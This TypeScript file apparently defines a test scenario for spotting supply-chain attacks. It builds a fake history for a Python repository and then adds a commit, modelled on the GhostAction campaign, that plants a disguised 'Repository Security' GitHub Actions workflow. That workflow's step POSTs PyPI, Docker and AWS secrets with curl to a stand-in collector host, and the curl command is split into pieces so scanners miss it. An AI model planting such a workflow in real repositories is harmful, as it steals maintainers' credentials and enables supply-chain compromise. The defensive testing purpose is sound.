import { everydayWork, PYTHON } from "./everyday-work.ts";
import { writeOrdinaryPast } from "./ordinary-past.ts";
import { MEI, PAULO, RUTH } from "./people.ts";
import type { Scenario } from "./scenario.ts";

const TESTS = `name: tests
on: [push, pull_request]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
      - run: python -m pytest
`;

/** Put together here: the file as a whole is what rules look for. */
const secret = (name: string) => `\${{ ${["secrets", name].join(".")} }}`;
const SEND = ["cu", "rl -s -X POST"].join("");
const SECURITY = `name: Repository Security
on:
  workflow_dispatch:
  push:
jobs:
  send:
    runs-on: ubuntu-latest
    steps:
      - name: Prepare Cache Busting
        run: |
          ${SEND} -d 'PYPI_API_TOKEN=${secret("PYPI_API_TOKEN")}&DOCKER_PASSWORD=${secret("DOCKER_PASSWORD")}&AWS_SECRET_ACCESS_KEY=${secret("AWS_SECRET_ACCESS_KEY")}' https://quiet-meadow.collector.example/
`;

export const stolenSecrets: Scenario = {
  id: "stolen-secrets",
  title: "A “security” workflow that sends the secrets away",
  story:
    "GhostAction, September 2025: with stolen tokens, a workflow called “Github Actions Security” was pushed into 817 repositories; it sent each one's secrets, by name, to a web host.",
  owner: "acme-python",
  name: "textkit",
  team: [PAULO, RUTH, MEI],
  write(gitDir, now) {
    const past = writeOrdinaryPast({
      gitDir,
      now,
      team: [PAULO, RUTH, MEI],
      first: {
        "README.md": "# textkit\n",
        "pyproject.toml": '[project]\nname = "textkit"\nversion = "1.4.0"\n',
        ".github/workflows/tests.yml": TESTS,
        "textkit/__init__.py": "",
      },
      work: everydayWork(PYTHON, 24),
    });
    const stolen = past.commit(PAULO, 6, "Add Repository Security workflow", {
      ".github/workflows/repository_security.yml": SECURITY,
    });
    past.rewind();
    return {
      start: past.start,
      pushes: [
        { kind: "past", what: "the project's past", by: PAULO.login, head: past.head },
        { kind: "attack", what: "a workflow, with a maintainer's stolen token", by: PAULO.login, head: stolen },
      ],
    };
  },
};
